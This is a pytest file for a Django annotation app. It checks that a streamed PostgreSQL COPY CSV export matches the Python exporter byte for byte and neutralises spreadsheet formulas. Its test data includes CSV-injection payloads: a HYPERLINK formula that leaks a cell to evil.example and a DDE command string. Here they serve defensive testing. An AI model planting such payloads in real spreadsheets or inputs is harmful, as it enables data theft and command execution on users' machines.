"""The CSV export streamed: PostgreSQL's COPY writes exactly the Python path's bytes on
hostile data, and importing the exports loads no pandas, pyarrow, scipy or openpyxl."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import math
import os
import subprocess
import sys

import pytest
from django.db import connection

from annotation import exports, exports_copy
from annotation.models import Judgment, LanguageModel, Prompt, Rating, Response, Study, Task
from tests.conftest import REPO_ROOT, make_user

pytestmark = pytest.mark.django_db
postgresql_only = pytest.mark.skipif(
    connection.vendor != "postgresql", reason="COPY is PostgreSQL's"
)

# Text that a spreadsheet would run, that CSV must quote, or that a SQL rewrite of the
# Python rules could get wrong.
TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=2+2",
    "-0.5",
    "+3",
    "-1e-3",
    ".5e+7",
    "-",
    "-1\n",
    "-\u0663",  # an Arabic-Indic digit: not a plain number to a spreadsheet
    "=",
    'say "no", then\nleave',
    "carriage\rreturn",
    "crlf\r\nend",
    "back\\slash \\. \\N",
    "#float8:3ff0000000000000",
    "ünïcødé 日本語 🙂 עברית",
    "",
    " leading space",
    "trailing;semicolon;",
    "'already quoted",
    "plain",
]
# Every kind of float the two writers could print differently (seconds are never negative:
# a check constraint; -0.0 passes it).
SECONDS = [
    None,
    0.0,
    -0.0,
    2.0,
    2.5,
    1 / 3,
    1e-4,
    9.99e-5,
    5e-324,
    123456.789,
    1e14,
    999999999999999.9,
    1e15,
    1e15 + 0.5,
    2.0**53,
    21664062438971312.0,
    1e16,
    1.5e300,
    7.25,
    1e20,
    math.nan,
    math.inf,
]
METADATA = [
    {
        "language": "=cmd",
        "nested": {"a": [1.5, "x", None, True], "b": 1},
        "float": 1e16,
        "bool": True,
        "none": None,
        "n": -3,
        "offset": "-0.5",
        "k" * 70: "a key longer than PostgreSQL's 63-byte names",
        "ключ": 'значение, "quoted"',
    },
    {"language": "+de", "float": 0.1, "n": 12, "nested": [], "bool": False},
    {"language": "fr\nline", "empty": ""},
    {},
]


@pytest.fixture
def hostile(db):
    """A study whose every exported field holds hostile text, written through the ORM:
    pair and single tasks, a gold task, human and model-judge graders, judgments with and
    without ratings, tags and seconds."""
    study = Study.objects.create(
        slug="-evil", name="=evil", rating_scale=["a"], good_labels=["a"], tags=TEXTS
    )
    models = [
        LanguageModel.objects.create(study=study, name=name)
        for name in ("=model", 'model "two", with comma', "-1", "模型")
    ]
    graders = [
        make_user(name, "grader")
        for name in ("@grader", "-1+1", "=judge", 'quote"d', "plain", "\tjudge")
    ]
    for grader in graders[2::3]:
        grader.kind = grader.Kind.MODEL_JUDGE
        grader.save()
    tasks = []
    for i, metadata in enumerate(METADATA):
        prompt = Prompt.objects.create(
            study=study, external_id=TEXTS[i * 3], text=f"prompt {i}", metadata=metadata
        )
        responses = sorted(
            (Response.objects.create(prompt=prompt, model=m, text=f"{m.name} {i}") for m in models),
            key=lambda r: r.pk,
        )
        for a, b in itertools.combinations(responses, 2):
            tasks.append(Task.objects.create(study=study, kind="pair", prompt=prompt, response_a=a, response_b=b))  # fmt: skip
        tasks += [
            Task.objects.create(study=study, kind="single", prompt=prompt, response_a=r)
            for r in responses
        ]
    gold = Task.objects.create(
        study=study, kind="pair", prompt=prompt, response_a=responses[0],
        response_b=responses[1], is_gold=True, gold_answer="a",
    )  # fmt: skip
    Judgment.objects.create(task=gold, grader=graders[0], verdict="a", comment="gold")
    comments, labels, tag_texts = (itertools.cycle(TEXTS) for _ in range(3))
    seconds = itertools.cycle(SECONDS)
    verdicts = itertools.cycle(["a", "b", "tie", "both_bad"])
    moment = dt.datetime(2026, 11, 29, 12, 0, 0, tzinfo=dt.UTC)
    n = 0
    for task, grader in itertools.product(tasks, graders):
        n += 1
        if n % 3 == 0:
            continue
        judgment = Judgment.objects.create(
            task=task,
            grader=grader,
            verdict=next(verdicts) if task.kind == "pair" else "",
            comment=next(comments),
            seconds=next(seconds),
            source="imported" if n % 5 == 0 else "" if n % 11 == 0 else "grader",
            created_at=moment + dt.timedelta(seconds=n, microseconds=(n % 4) * 125_000),
        )
        if n % 7 == 0:
            continue  # no ratings at all
        for k, response in enumerate(task.responses):
            tags = [next(tag_texts) for _ in range((n + k) % 7)]  # past FEW_TAGS too
            label = next(labels) if (n + k) % 6 else ""
            Rating.objects.create(judgment=judgment, response=response, label=label, tags=tags)
    return study


def python_csv(study) -> bytes:
    return b"".join(exports.iter_csv(study, server=False))


@postgresql_only
def test_it_uses_copy_on_postgresql():
    assert exports_copy.available(connection)


def test_it_never_uses_copy_on_sqlite():
    assert exports_copy.available(connection) is (connection.vendor == "postgresql")


@postgresql_only
@pytest.mark.parametrize("zone", ["UTC", "Asia/Kolkata", "America/New_York"])
def test_copy_writes_the_python_bytes_on_hostile_data(hostile, zone):
    # Django's sessions are in UTC; other zones give timestamps other offsets, which both
    # paths must rewrite alike.
    with connection.cursor() as cursor:
        cursor.execute("SELECT set_config('TimeZone', %s, false)", [zone])
    try:
        expected = python_csv(hostile)
        assert b"".join(exports.iter_csv(hostile, server=True)) == expected
    finally:
        with connection.cursor() as cursor:
            cursor.execute("SELECT set_config('TimeZone', 'UTC', false)")
    # The comparison is not vacuous: every hostile value is in the file, each row ends in
    # CRLF, the gold judgment is not, and some seconds left the server as bits.
    rows = list(csv.reader(io.StringIO(expected.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == Judgment.objects.filter(task__study=hostile, task__is_gold=False).count()
    assert len(body) > 100
    assert expected.count(b"\r\n") >= len(rows)
    cells = {cell for row in body for cell in row}
    assert {
        "'" + TEXTS[0],
        "'\r=2+2",
        "-0.5",
        "'-\u0663",
        "crlf\r\nend",
        "ünïcødé 日本語 🙂 עברית",
    } <= cells
    assert "gold" not in cells
    for column in ("comment", "rating_a", "tags_b", "model_b", "winner", "meta_language"):
        assert "" in {row[header.index(column)] for row in body}, column
    seconds = {row[header.index("seconds")] for row in body}
    assert {
        "",
        "0.0",
        "2.0",
        "5e-324",
        "1000000000000000.5",
        "2.166406243897131e+16",
        "nan",
    } <= seconds
    assert "meta_" + "k" * 70 in header
    _, sql, params = exports_copy.copy_query(hostile)
    with connection.cursor() as cursor, cursor.cursor.copy(sql, params) as copy:
        raw = b"".join(bytes(row) for row in copy)
    assert exports_copy.MARKER.encode() + b"7ff0000000000000" in raw  # +inf, as bits


@postgresql_only
def test_copy_and_python_agree_on_a_study_without_judgments(hostile):
    Judgment.objects.filter(task__study=hostile).delete()
    expected = python_csv(hostile)
    assert expected.count(b"\r\n") == 1 and expected.startswith(b"judgment_id,created_at,")
    assert b"".join(exports.iter_csv(hostile, server=True)) == expected


@postgresql_only
def test_it_falls_back_to_python_where_copy_would_print_floats_short(hostile):
    with connection.cursor() as cursor:
        cursor.execute("SET extra_float_digits = 0")
        try:
            assert not exports_copy.available(connection)
        finally:
            cursor.execute("RESET extra_float_digits")
    assert exports_copy.available(connection)


def test_the_python_csv_is_what_csv_writer_writes_on_hostile_data(hostile):
    """The export builds each line itself (`_iter_csv_python`); the reference hands every
    row to `csv.writer`. Same bytes, with and without judgments, on both databases."""
    reference = b"".join(exports._iter_csv_reference(hostile))
    assert reference.count(b"\r\n") > 100
    assert python_csv(hostile) == reference
    Judgment.objects.filter(task__study=hostile).delete()
    assert python_csv(hostile) == b"".join(exports._iter_csv_reference(hostile))


def test_the_jsonl_is_what_orjson_writes_of_each_record_on_hostile_data(hostile):
    """`iter_jsonl` builds each line itself; the reference dumps each record of
    `judgment_rows` with orjson. Same bytes."""
    reference = b"".join(exports._iter_jsonl_reference(hostile))
    assert reference.count(b"\n") > 100
    assert b"".join(exports.iter_jsonl(hostile)) == reference


@pytest.mark.parametrize(
    "value",
    [*TEXTS, *SECONDS, None, 0, -7, 2**70, True, False, '"', ",", "\n", "\r", "a\x00b"],
)
def test_csv_field_writes_what_csv_writer_writes(value):
    out = io.StringIO()
    csv.writer(out, lineterminator=exports.CSV_LINE_END).writerow(["x", value, "y"])
    assert out.getvalue() == f"x,{exports.csv_field(value)},y\r\n"


def test_the_python_csv_round_trips_hostile_text(hostile):
    rows = list(csv.reader(io.StringIO(python_csv(hostile).decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    comments = {row[header.index("comment")] for row in body}
    assert {"crlf\r\nend", 'say "no", then\nleave', "'\r=2+2", "'-1\n", "-1e-3", ""} <= comments
    languages = {row[header.index("meta_language")] for row in body}
    assert languages == {"'=cmd", "'+de", "fr\nline", ""}
    nested = {row[header.index("meta_nested")] for row in body}
    assert nested == {'{"a": [1.5, "x", null, true], "b": 1}', "[]", ""}


def test_importing_the_exports_loads_no_dataframe_library():
    """The web app and `manage.py export` import these; pandas, pyarrow and scipy cost
    ~130 MB before a row is read, and only Parquet, Excel and scores need them."""
    code = (
        "import sys, django; django.setup(); "
        "import annotation.exports, annotation.exports_copy; "
        "import annotation.management.commands.export; "
        "print(sorted(m for m in ('pandas', 'pyarrow', 'scipy', 'numpy', 'openpyxl') "
        "if m in sys.modules))"
    )
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "humaneval_site.settings", "DEBUG": "1"}
    env["PYTHONPATH"] = os.pathsep.join([str(REPO_ROOT), env.get("PYTHONPATH", "")])
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env=env, cwd=REPO_ROOT
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "[]"


@postgresql_only
def test_a_download_dropped_halfway_leaves_the_connection_usable(hostile, monkeypatch):
    monkeypatch.setattr(exports_copy, "ROWS_PER_CHUNK", 10)
    chunks = exports.iter_csv(hostile, server=True)
    try:
        assert next(chunks).startswith(b"judgment_id,")
        assert len(next(chunks).split(b"\r\n")) > 10  # ten rows (some hold a CRLF)
    finally:
        chunks.close()  # what Django does when the client goes away
    assert Judgment.objects.filter(task__study=hostile).count() > 100
    assert b"".join(exports.iter_csv(hostile, server=True)) == python_csv(hostile)
